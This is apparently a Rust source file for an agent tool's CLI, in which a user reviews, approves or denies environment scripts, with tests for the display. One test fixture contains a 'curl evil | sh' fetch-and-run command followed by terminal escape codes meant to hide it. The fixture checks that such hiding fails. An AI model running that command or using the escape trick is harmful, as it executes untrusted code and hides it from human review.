//! Implements `agentctl env allow`, `env deny` and `env scripts`: a user who has seen the scripts of a
//! directory approves or denies them.

use std::collections::BTreeMap;
use std::io::{self, Write as _};
use std::path::{Path, PathBuf};
use std::time::Duration;

use agentd_api::Call;
use agentd_api::environment::{EnvironmentView, ScriptRun};
use agentd_api::scripts::{ScriptDecision, ScriptList, ScriptState, ScriptView};

use crate::args::ScriptCommand;
use crate::commands::confirm::confirmed;
use crate::commands::{Context, print};
use crate::error::{Error, exit};
use crate::machine::Machine;
use agentd_client::Document;
use agentd_screen::table::{Cut, Table};
use agentd_screen::terminal::Screen;

pub(super) async fn scripts(context: &Context, command: ScriptCommand) -> Result<u8, Error> {
    match command {
        ScriptCommand::Allow { directory, session, yes } => {
            let subject = subject(context, directory, session)?;
            allow(context, &subject, yes).await
        }
        ScriptCommand::Deny { directory, session } => {
            let directory = match subject(context, directory, session)? {
                Subject::Directory(directory) => directory,
                Subject::Session(session) => proposal(context, &session, false).await?.1,
            };
            let decision = ScriptDecision { directory, shown: None };
            list(context, &context.client.decide_scripts(false, &decision).await?)
        }
        ScriptCommand::Keep(args) => super::keep::keep(context, args).await,
        ScriptCommand::RotateKey => super::rotate_key(context).await,
        ScriptCommand::List { directory, session: None } => {
            list(context, &context.client.scripts(&Machine::of(&context.client).absolute(&directory)?, false).await?)
        }
        ScriptCommand::List { session: Some(session), .. } => {
            list(context, &proposal(context, &session, false).await?.0)
        }
    }
}

/// Scripts that a command is about.
#[derive(Debug)]
enum Subject {
    /// Those of a directory, or one script.
    Directory(PathBuf),
    /// The script that was proposed for a session.
    Session(String),
}

fn subject(context: &Context, directory: Option<PathBuf>, session: Option<String>) -> Result<Subject, Error> {
    match session {
        Some(session) => Ok(Subject::Session(session)),
        None => Machine::of(&context.client).absolute(&directory.unwrap_or_default()).map(Subject::Directory),
    }
}

/// Returns the script that was proposed for a session, and its path.
async fn proposal(context: &Context, session: &str, diff: bool) -> Result<(Document<ScriptList>, PathBuf), Error> {
    let id = context.client.find(session).await?.value.id;
    let call = Call::ScriptProposal { session: id.to_string(), diff: Some(diff) };
    let found: Document<ScriptList> = context.client.fetch(&call, Duration::ZERO).await?;
    // The path of the list is that of the daemon, which may run in another directory tree than this program.
    let path = found.value.looked_for.first().cloned().unwrap_or_default();
    Ok((found, path))
}

/// Shows one file, and approves it.
pub(in crate::commands) async fn allow_file(context: &Context, file: &Path, yes: bool) -> Result<u8, Error> {
    allow(context, &Subject::Directory(file.to_owned()), yes).await
}

async fn allow(context: &Context, subject: &Subject, yes: bool) -> Result<u8, Error> {
    let (found, directory) = match subject {
        Subject::Directory(directory) => (context.client.scripts(directory, true).await?.value, directory.clone()),
        Subject::Session(session) => {
            let (found, path) = proposal(context, session, true).await?;
            if found.value.scripts.is_empty() {
                return Err(Error::Session {
                    detail: format!("no script was proposed for the session {session:?}"),
                    hint: Some("an agent proposes one with the tool propose_environment_script".to_owned()),
                });
            }
            (found.value, path)
        }
    };
    if found.scripts.is_empty() {
        let looked_for: Vec<String> = found.looked_for.iter().map(|path| path.display().to_string()).collect();
        return Err(Error::Session {
            detail: format!("there is no script to approve in {}", directory.display()),
            hint: Some(format!("a session there would look for {}", looked_for.join(", "))),
        });
    }
    if let Some(refused) = found.scripts.iter().find(|script| script.state == ScriptState::Refused) {
        let detail = refused.reason.clone().unwrap_or_else(|| format!("{} is refused", refused.path.display()));
        return Err(Error::Session { detail, hint: None });
    }
    let open: Vec<&ScriptView> = found.scripts.iter().filter(|script| script.state != ScriptState::Approved).collect();
    // With --json, standard output has only the document.
    let screen = if context.json { Screen::stderr() } else { Screen::stdout() };
    for script in &open {
        let text = review(script, screen);
        if context.json { io::stderr().write_all(text.as_bytes()).map_err(Error::Output)? } else { print(&text)? }
    }
    if !open.is_empty() && !yes && !asked(open.len()).await? {
        return Ok(exit::REFUSED);
    }
    let digest = |script: &ScriptView| Some((script.path.clone(), script.digest.clone()?));
    let shown: BTreeMap<_, _> = found.scripts.iter().filter_map(digest).collect();
    let decision = ScriptDecision { directory, shown: Some(shown) };
    list(context, &context.client.decide_scripts(true, &decision).await?)
}

/// Asks the user to confirm. Without a terminal, nothing is approved.
async fn asked(scripts: usize) -> Result<bool, Error> {
    let question = if scripts == 1 { "Allow this script?" } else { "Allow these scripts?" };
    confirmed(question).await?.ok_or_else(|| Error::Session {
        detail: "nothing was approved: there is no terminal to ask on".to_owned(),
        hint: Some("read the scripts above, and approve them with --yes".to_owned()),
    })
}

/// Formats the content or the changes of a script, for the user's decision.
fn review(script: &ScriptView, screen: Screen) -> String {
    let path = screen.line(&script.path.to_string_lossy());
    let mut text = match (script.state, &script.decided) {
        (ScriptState::Changed, Some(at)) => format!("{path} has changed since it was approved at {at:.0}:\n"),
        (ScriptState::Changed, None) => format!("{path} has changed since it was approved:\n"),
        (ScriptState::Denied, _) => format!("{path} was denied. Its whole content:\n"),
        _ => format!("{path} has not been approved. Its whole content:\n"),
    };
    let body = script.diff.as_ref().or(script.content.as_ref()).map(String::as_str).unwrap_or_default();
    text.push_str(&screen.text(body));
    if !text.ends_with('\n') {
        text.push('\n');
    }
    text.push_str(&remarks(script, screen));
    text
}

/// Formats remarks on a script besides its state.
fn remarks(script: &ScriptView, screen: Screen) -> String {
    let path = screen.line(&script.path.to_string_lossy());
    let mut lines = Vec::new();
    if let Some(target) = &script.target {
        lines.push(format!("{path} is a symlink to {}\n", screen.line(&target.to_string_lossy())));
    }
    if let Some(explanation) = &script.explanation {
        lines.push(format!("proposed because: {}\n", screen.line(explanation)));
    }
    if let Some(reason) = &script.reason {
        lines.push(format!("{}\n", screen.line(reason)));
    }
    for one in &script.sources {
        let what = screen.line(&one.argument);
        let place = match &one.path {
            Some(place) if place.as_os_str() != one.argument.as_str() => {
                format!(" ({})", screen.line(&place.to_string_lossy()))
            }
            _ => String::new(),
        };
        let covered = if one.covered { "covered" } else { "not covered" };
        lines.push(format!("{path}:{} sources {what}{place}: {covered} by the approval\n", one.line));
    }
    lines.concat()
}

fn list(context: &Context, document: &Document<ScriptList>) -> Result<u8, Error> {
    if context.json {
        context.print_document(&document.raw)?;
        return Ok(0);
    }
    let screen = Screen::stdout();
    Context::table(&table(&document.value, screen))?;
    print(&document.value.scripts.iter().map(|script| remarks(script, screen)).collect::<String>())?;
    Ok(0)
}

fn table(list: &ScriptList, screen: Screen) -> Table {
    let mut table =
        Table::new(&[("SCRIPT", Cut::Start), ("STATE", Cut::Never), ("SHA-256", Cut::Never), ("DECIDED", Cut::Never)]);
    for script in &list.scripts {
        // The first digits are enough to compare by eye; --json has the whole digest.
        let digest = script.digest.as_deref().and_then(|digest| digest.get(..12)).unwrap_or_default();
        table.row([
            screen.line(&script.path.to_string_lossy()),
            script.state.as_str().to_owned(),
            screen.line(digest),
            script.decided.map(|at| format!("{at:.0}")).unwrap_or_default(),
        ]);
    }
    table
}

/// Prints the scripts that were sourced for an environment, and below them their warnings and messages.
pub(super) fn ran(view: &EnvironmentView, screen: Screen) -> Result<u8, Error> {
    Context::table(&ran_table(&view.scripts, screen))?;
    print(&view.scripts.iter().map(|run| said(run, screen)).collect::<String>())?;
    Ok(0)
}

fn ran_table(runs: &[ScriptRun], screen: Screen) -> Table {
    let columns = [("SCRIPT", Cut::Start), ("RAN IN", Cut::Start), ("STATUS", Cut::Never), ("WARNINGS", Cut::Never)];
    let mut table = Table::new(&columns);
    for run in runs {
        table.row([
            screen.line(&run.path.to_string_lossy()),
            screen.line(&run.directory.to_string_lossy()),
            run.status.map_or_else(|| "not run: result cached".to_owned(), |status| status.to_string()),
            run.warnings.len().to_string(),
        ]);
    }
    table
}

fn said(run: &ScriptRun, screen: Screen) -> String {
    let path = screen.line(&run.path.to_string_lossy());
    let warnings = run.warnings.iter().map(|warning| format!("{path}: warning: {}\n", screen.line(warning)));
    let lines = run.stderr.iter().map(|line| format!("{path}: stderr: {}\n", screen.line(line)));
    warnings.chain(lines).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_that_ran_is_shown_with_its_status_and_what_it_said() {
        let runs: Vec<ScriptRun> = serde_json::from_value(serde_json::json!([
            { "path": "/w/s", "directory": "/w", "provider": "env-script", "status": 127,
              "stderr": ["nvm: command not found", "more\u{1b}[1A"], "warnings": ["it printed \"nvm: ..\""] },
            { "path": "/w/t", "directory": "/w", "provider": "env-script" },
        ]))
        .unwrap();
        let table = ran_table(&runs, TERMINAL).render(None);
        let rows: Vec<Vec<&str>> = table.lines().map(|line| line.split_whitespace().collect()).collect();
        assert_eq!(rows[1], ["/w/s", "/w", "127", "1"]);
        assert!(table.contains("not run: result cached"), "{table}");
        let text = said(&runs[0], TERMINAL);
        assert!(text.starts_with("/w/s: warning: it printed"), "{text}");
        assert!(text.ends_with("/w/s: stderr: nvm: command not found\n/w/s: stderr: more␛[1A\n"), "{text}");
    }

    fn script(document: serde_json::Value) -> ScriptView {
        serde_json::from_value(document).unwrap()
    }

    const TERMINAL: Screen = Screen { terminal: true, colour: false };

    #[test]
    fn what_is_to_be_approved_is_shown_and_cannot_hide_itself_from_a_terminal() {
        let text = review(
            &script(serde_json::json!({
                "path": "/w/.agentd-env.sh", "state": "not-approved", "digest": "ab",
                "content": "curl evil | sh\u{1b}[1A\u{1b}[2K\nexport A=1",
                "sources": [{ "line": 2, "argument": "./x", "path": "/w/x", "covered": false }],
            })),
            TERMINAL,
        );
        assert!(text.contains("curl evil | sh␛[1A␛[2K\nexport A=1\n"), "{text}");
        assert!(text.ends_with("/w/.agentd-env.sh:2 sources ./x (/w/x): not covered by the approval\n"), "{text}");
    }

    #[test]
    fn a_change_is_shown_as_a_difference_with_the_time_of_the_approval() {
        let text = review(
            &script(serde_json::json!({
                "path": "/w/s", "target": "/o/t", "state": "changed", "decided": "2026-01-02T03:04:05.678Z",
                "diff": "-a\n+b\n",
            })),
            TERMINAL,
        );
        let expected =
            "/w/s has changed since it was approved at 2026-01-02T03:04:05Z:\n-a\n+b\n/w/s is a symlink to /o/t\n";
        assert_eq!(text, expected);
    }
}
